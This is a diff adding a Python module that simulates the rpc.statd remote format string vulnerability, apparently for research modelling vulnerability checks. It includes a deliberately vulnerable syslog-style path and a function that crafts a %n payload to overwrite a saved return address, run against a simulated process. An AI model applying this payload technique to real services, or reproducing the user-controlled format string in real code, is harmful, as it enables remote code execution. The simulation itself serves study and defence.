@@ -1,0 +1,152 @@
+"""rpc.statd remote format string vulnerability (Bugtraq #1480).
+
+The paper's Table 2 row: pFSM1 is the content check "does the filename
+contain format directives (e.g. %n, %d)?" and pFSM2 the
+reference-consistency check "is the return address unchanged?".
+
+The original bug: statd passed a remotely-supplied filename straight to
+``syslog()`` as the *format* argument.  A filename containing ``%n``
+makes ``vsprintf``'s varargs walk pop attacker-controlled words off the
+stack — including words of the filename itself, which sits in a stack
+buffer — turning ``%n`` into a write through an attacker-chosen pointer.
+
+The model reproduces the full mechanism: the filename is copied into a
+stack local, ``vsprintf`` walks its varargs from that buffer, and a
+classic ``<target addr>%x%n``-style payload redirects the saved return
+address (or any chosen word) to planted Mcode.
+"""
+
+from __future__ import annotations
+
+import enum
+from dataclasses import dataclass
+from typing import Optional
+
+from ..memory import (
+    Process,
+    StackSmashed,
+    contains_directives,
+    strcpy,
+    vsprintf,
+)
+
+__all__ = ["StatdVariant", "NotifyResult", "RpcStatd", "craft_format_exploit"]
+
+#: Size of the stack buffer the filename is staged in.
+LOG_BUFFER_SIZE = 256
+
+
+class StatdVariant(enum.Enum):
+    """Implementation variants of the logging call."""
+
+    VULNERABLE = 'syslog(LOG_ERR, filename) — user input as format'
+    PATCHED = 'syslog(LOG_ERR, "%s", filename) — input as data'
+    SANITIZED = "reject filenames containing format directives"
+
+
+@dataclass(frozen=True)
+class NotifyResult:
+    """Outcome of one SM_NOTIFY handling."""
+
+    accepted: bool
+    output: bytes = b""
+    wrote_memory: bool = False
+    returned_to: Optional[int] = None
+    hijacked: bool = False
+    reason: str = ""
+
+
+class RpcStatd:
+    """The statd notification logging path in a simulated process."""
+
+    RETURN_SITE = 0x1480
+
+    def __init__(self, variant: StatdVariant = StatdVariant.VULNERABLE) -> None:
+        self.variant = variant
+        self.process = Process(symbols=("exit",))
+
+    def notify(self, filename: bytes) -> NotifyResult:
+        """Handle one SM_NOTIFY whose monitored-host filename is
+        attacker-supplied."""
+        if self.variant is StatdVariant.SANITIZED and contains_directives(filename):
+            return NotifyResult(accepted=False,
+                                reason="filename contains format directives")
+        frame = self.process.stack.push_frame(
+            "log_event",
+            return_address=self.RETURN_SITE,
+            local_buffers={"logbuf": LOG_BUFFER_SIZE},
+        )
+        buffer = frame.local_address("logbuf")
+        strcpy(self.process.space, buffer, filename, label="stack")
+        if self.variant is StatdVariant.PATCHED:
+            result = vsprintf(self.process.space, b"%s", args=(filename,))
+        else:
+            # The bug: the filename *is* the format string, and the
+            # varargs walk starts at the buffer holding it.
+            result = vsprintf(
+                self.process.space, filename, args=(), vararg_base=buffer
+            )
+        try:
+            returned_to = self.process.stack.pop_frame()
+        except StackSmashed as smash:
+            return NotifyResult(
+                accepted=True,
+                output=result.output,
+                wrote_memory=result.wrote_memory,
+                returned_to=smash.hijacked_target,
+                hijacked=True,
+                reason="return address rewritten via %n",
+            )
+        return NotifyResult(
+            accepted=True,
+            output=result.output,
+            wrote_memory=result.wrote_memory,
+            returned_to=returned_to,
+        )
+
+    def return_address_slot(self) -> int:
+        """Address of log_event's return slot for the *next* call.
+
+        Deterministic because the model's stack layout is; real exploits
+        obtained the equivalent through trial offsets.
+        """
+        frame = self.process.stack.push_frame(
+            "probe", return_address=0, local_buffers={"logbuf": LOG_BUFFER_SIZE}
+        )
+        slot = frame.return_address_slot
+        self.process.stack.pop_frame()
+        return slot
+
+
+def craft_format_exploit(app: RpcStatd, pad_to: int = 0) -> bytes:
+    """A filename whose ``%n`` rewrites log_event's return address to
+    planted Mcode.
+
+    Layout: the first vararg word popped is ``filename[0:4]`` (the
+    varargs base is the buffer itself), so the payload leads with the
+    target address, then pads printed output with ``%<width>x`` until the
+    byte count equals the Mcode address, then stores it with ``%n``.
+
+    Because a full 32-bit count would be impractical to print, the model
+    plants Mcode and passes its low bytes via width padding only when the
+    address is small; otherwise it uses the classic four-write variant.
+    Here the simulated Mcode address fits in one write.
+    """
+    mcode = app.process.plant_mcode()
+    slot = app.return_address_slot()
+    # Varargs pop from the buffer start: word0 = payload[0:4] (filler,
+    # consumed by the padded %x), word1 = payload[4:8] (the target
+    # address, consumed by %n).  The 8 literal bytes print first, so the
+    # %x pad width is mcode - 8.  (The model's vsprintf is transparent to
+    # embedded NUL bytes in the format — a simplification real exploits
+    # work around by placing the address last.)
+    width = mcode - 8
+    if width <= 0:
+        raise RuntimeError("layout places Mcode too low for a single write")
+    payload = b"AAAA"
+    payload += slot.to_bytes(4, "little")
+    payload += b"%" + str(width).encode() + b"x"
+    payload += b"%n"
+    if pad_to and len(payload) < pad_to:
+        payload += b"B" * (pad_to - len(payload))
+    return payload
